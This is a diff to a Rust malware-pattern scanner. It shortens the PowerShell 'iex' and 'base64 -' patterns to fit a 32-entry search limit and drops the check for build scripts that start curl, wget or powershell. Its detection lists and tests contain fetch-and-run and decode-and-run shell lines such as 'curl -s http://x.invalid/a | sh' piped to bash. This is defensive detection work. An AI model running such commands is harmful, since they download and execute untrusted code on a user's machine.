@@ -22,10 +22,8 @@ const RUNS: &[&[u8]] = &[
     b"eval(",
     b"exec(",
     b"new Function(",
-    b"iex (",
-    b"IEX (",
-    b"iex(",
-    b"IEX(",
+    b"iex",
+    b"IEX",
     b"Invoke-Expression",
     b"instance_eval(",
     b"marshal.loads(",
@@ -81,8 +79,7 @@ const FETCHES: &[&[u8]] = &[
 const SOURCES: &[(&[u8], &str)] = &[
     (b"curl ", "fetch-and-run/pipe"),
     (b"wget ", "fetch-and-run/pipe"),
-    (b"base64 -d", "decode-and-run/pipe"),
-    (b"base64 --decode", "decode-and-run/pipe"),
+    (b"base64 -", "decode-and-run/pipe"),
 ];
 const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"node", b"python", b"python3", b"perl"];
 
@@ -105,13 +102,16 @@ const PICKLES: &[&[u8]] = &[
     b"\x8c\x08builtins\x94\x8c\x04eval\x94",
 ];
 
+/// At most 32 words: vector instructions look for more at half the speed.
+const _: () = assert!(RUNS.len() + SOURCES.len() + 5 + pieces::MARKS.len() <= 32);
+
 /// Everything that is looked for in texts, found in one go: what runs, what goes into a shell, and two words more.
 static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
     table(
         RUNS.iter()
             .copied()
             .chain(SOURCES.iter().map(|(word, _)| *word))
-            .chain([MODULE, NAME, SEND, UNPACK, START, DATA])
+            .chain([MODULE, NAME, SEND, UNPACK, DATA])
             .chain(pieces::MARKS.iter().copied()),
     )
 });
@@ -128,9 +128,6 @@ const SEND: &[u8] = b"fetch(";
 /// One expression that imports what it decodes with, as nobody writes who has an `import`.
 const UNPACK: &[u8] = b".decompress(__import__(";
 
-/// Programs that fetch, started from Rust: what a build script has no good reason to do.
-const START: &[u8] = b"Command::new(\"";
-const FETCHERS: &[&[u8]] = &[b"curl\"", b"wget\"", b"powershell\""];
 /// A module that is an address with the code in it: `import('data:text/javascript,…')`.
 const DATA: &[u8] = b":text/javascript";
 
@@ -158,9 +155,12 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
                 continue;
             }
             // PowerShell runs what the rest of the line makes.
-            let is_command = run.eq_ignore_ascii_case(b"iex (")
-                || run.eq_ignore_ascii_case(b"iex(")
-                || *run == b"Invoke-Expression";
+            let short = run.eq_ignore_ascii_case(b"iex");
+            let opens = |rest: &[u8]| rest.starts_with(b"(") || rest.starts_with(b" (");
+            if short && !opens(bytes.get(hit.end()..).unwrap_or_default()) {
+                continue;
+            }
+            let is_command = short || *run == b"Invoke-Expression";
             let inside = if is_command { line(bytes, hit.end()) } else { argument(bytes, hit.end()) };
             // A function is made of code that was data (Python's `types`).
             if *run == b"marshal.loads(" && bytes[..at].ends_with(b"FunctionType(") {
@@ -192,18 +192,13 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
         } else if number == RUNS.len() + SOURCES.len() + 3 {
             add("decode-and-run/nested");
         } else if number == RUNS.len() + SOURCES.len() + 4 {
-            let program = bytes.get(hit.end()..).unwrap_or_default();
-            if FETCHERS.iter().any(|fetcher| program.starts_with(fetcher)) {
-                add("fetch-and-run/command");
-            }
-        } else if number == RUNS.len() + SOURCES.len() + 5 {
             if [&b"import('data"[..], b"import(\"data", b"import(`data"]
                 .iter()
                 .any(|call| bytes[..at].ends_with(call))
             {
                 add("decode-and-run/nested");
             }
-        } else if let Some(mark) = number.checked_sub(RUNS.len() + SOURCES.len() + 6) {
+        } else if let Some(mark) = number.checked_sub(RUNS.len() + SOURCES.len() + 5) {
             if let Some(name) = hidden.mark(mark, bytes, at) {
                 add(name);
             }
@@ -345,9 +340,6 @@ mod tests {
         check(b"curl -s http://x.invalid/a | sh\n", &["fetch-and-run/pipe"]);
         check(b"wget -qO- x.invalid | sudo /bin/bash -s\n", &["fetch-and-run/pipe"]);
         check(b"echo eA== | base64 -d | sh\n", &["decode-and-run/pipe"]);
-        let command: &[&str] = &["fetch-and-run/command"];
-        check(b"std::process::Command::new(\"curl\").arg(u).status()", command);
-        check(b"std::process::Command::new(\"git\").arg(\"curl\").status()", &[]);
         check(b"curl x.invalid | tar x\nls | sh\n", &[]);
         check(b"base64 -d x > y\n", &[]);
     }
